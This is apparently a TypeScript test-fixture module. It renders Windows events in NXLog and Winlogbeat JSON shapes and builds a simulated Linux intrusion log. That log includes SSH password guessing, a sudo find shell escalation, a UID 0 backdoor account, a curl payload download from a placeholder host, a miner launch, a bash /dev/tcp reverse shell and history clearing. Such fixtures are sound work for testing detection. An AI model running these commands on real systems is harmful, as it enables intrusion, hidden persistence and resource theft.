/**
 * The fixtures that are lines of JSON: Windows events as shippers flatten or nest them, and Linux
 * authentication events with fields.
 */
import { dataFields, type DataValue, type WindowsEventSpec } from "./evtx_event.ts";
import { TYPE } from "./evtx_values.ts";

type Json = string | number | boolean | null | readonly string[] | { readonly [key: string]: Json };

/** One event a line. */
export function ndjson(events: readonly Json[]): string {
  return events.map((event) => `${JSON.stringify(event)}\n`).join("");
}

/** All fields side by side, as NXLog's `to_json()` writes them. */
export function flatWindows(event: WindowsEventSpec): Json {
  return {
    EventTime: event.time,
    "@timestamp": event.time,
    Hostname: event.computer,
    EventID: event.eventId,
    SourceName: event.provider,
    ...(event.providerGuid === undefined ? {} : { ProviderGuid: `{${event.providerGuid}}` }),
    Channel: event.channel,
    Severity: "INFO",
    SourceModuleType: "im_msvistalog",
    ...fieldsOf(event),
  };
}

/** System data under `winlog`, event data under `winlog.event_data`, as Winlogbeat writes them. */
export function winlogbeat(event: WindowsEventSpec): Json {
  return {
    "@timestamp": event.time,
    ecs: { version: "8.0.0" },
    agent: { type: "winlogbeat", version: "8.17.0" },
    host: { name: event.computer, os: { type: "windows" } },
    event: { code: String(event.eventId), provider: event.provider, kind: "event" },
    winlog: {
      channel: event.channel,
      computer_name: event.computer,
      event_id: String(event.eventId),
      provider_name: event.provider,
      ...(event.userData === undefined
        ? { event_data: fieldsOf(event) }
        : { user_data: fieldsOf(event) }),
    },
  };
}

function fieldsOf(event: WindowsEventSpec): { readonly [key: string]: Json } {
  const fields = event.userData === undefined
    ? dataFields(event)
    : Object.entries(event.userData.fields);
  return Object.fromEntries(fields.map(([name, value]) => [name ?? "Data", jsonOf(value)]));
}

/** Shippers write every field as text; numbers in hexadecimal stay so. */
function jsonOf(value: DataValue): Json {
  if (value === null) return "-";
  if (typeof value !== "object") return String(value);
  if (isList(value)) return value;
  if (value.kind === "fragment") throw new RangeError("A nested fragment has no text");
  const bytes = value.bytes;
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  const hex = (from: number, to: number) => bytes.slice(from, to).toHex();
  const swapped = (from: number, to: number) => bytes.slice(from, to).toReversed().toHex();
  switch (value.code) {
    case TYPE.uint16:
      return String(view.getUint16(0, true));
    case TYPE.uint32:
      return String(view.getUint32(0, true));
    case TYPE.hexInt32:
      return `0x${view.getUint32(0, true).toString(16)}`;
    case TYPE.hexInt64:
      return `0x${view.getBigUint64(0, true).toString(16)}`;
    case TYPE.guid:
      return `{${swapped(0, 4)}-${swapped(4, 6)}-${swapped(6, 8)}-${hex(8, 10)}-${hex(10, 16)}}`;
    case TYPE.sid:
      return sidText(view);
    default:
      throw new RangeError(`The fixtures have no JSON text for type ${value.code}`);
  }
}

function isList(value: readonly string[] | object): value is readonly string[] {
  return Array.isArray(value);
}

function sidText(view: DataView): string {
  const parts = Array.from(
    { length: view.getUint8(1) },
    (_, part) => view.getUint32(8 + part * 4, true),
  );
  return ["S", view.getUint8(0), view.getUint32(4, false), ...parts].join("-");
}

/** One Linux host: guessed passwords, a login as root, a second root, commands of a web server. */
export function linuxAuthentication(): readonly Json[] {
  const line = (clock: string, program: string, pid: number, fields: { [key: string]: Json }) => ({
    "@timestamp": `2025-03-11T${clock}Z`,
    host: "web02",
    program,
    pid,
    facility: "authpriv",
    ...fields,
  });
  const ssh = (
    clock: string,
    result: "accepted" | "failed",
    user: string,
    ip: string,
    how: string,
  ) =>
    line(clock, "sshd", 2210, {
      action: "login",
      outcome: result,
      user,
      src_ip: ip,
      auth_method: how,
      message: `${result === "accepted" ? "Accepted" : "Failed"} ${how} for ${user} from ${ip} ` +
        "port 50122 ssh2",
    });
  const sudo = (clock: string, user: string, command: string) =>
    line(clock, "sudo", 2301, {
      user,
      run_as: "root",
      command,
      message: `${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`,
    });
  const command = (
    clock: string,
    image: string,
    commandLine: string,
    parent: string,
    user: string,
  ) =>
    line(clock, "sysmon", 812, {
      EventID: 1,
      Image: image,
      CommandLine: commandLine,
      ParentImage: parent,
      User: user,
      CurrentDirectory: "/",
    });
  return [
    command(
      "06:25:01.000",
      "/usr/sbin/logrotate",
      "logrotate /etc/logrotate.conf",
      "/usr/sbin/cron",
      "root",
    ),
    ssh("07:45:10.000", "accepted", "deploy", "10.20.30.5", "publickey"),
    sudo("07:45:31.000", "deploy", "/usr/bin/apt-get update"),
    ...["root", "admin", "oracle", "test", "postgres", "git", "ubuntu", "deploy"].map((user, n) =>
      ssh(`09:05:${String(10 + n * 2)}.000`, "failed", user, "198.51.100.23", "password")
    ),
    ssh("09:05:40.000", "accepted", "root", "198.51.100.23", "password"),
    sudo("09:06:02.000", "deploy", "/usr/bin/find / -exec /bin/sh ;"),
    line("09:06:20.000", "useradd", 2377, {
      user: "sysupdate",
      uid: 0,
      message: "new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash",
    }),
    line("09:06:24.000", "usermod", 2379, {
      user: "sysupdate",
      message: "add 'sysupdate' to group 'sudo'",
    }),
    command(
      "09:06:45.000",
      "/usr/bin/bash",
      "sh -c id; curl http://updates.example.net/x.sh -o /tmp/.x",
      "/usr/sbin/nginx",
      "www-data",
    ),
    command(
      "09:06:52.000",
      "/tmp/.x",
      "/tmp/.x -o pool.example.net:3333",
      "/usr/bin/bash",
      "www-data",
    ),
    command(
      "09:07:10.000",
      "/usr/bin/bash",
      "bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
      "/usr/bin/bash",
      "www-data",
    ),
    line("09:07:30.000", "bash", 2391, {
      user: "root",
      command: "history -c",
      message: "root: history -c",
    }),
  ];
}
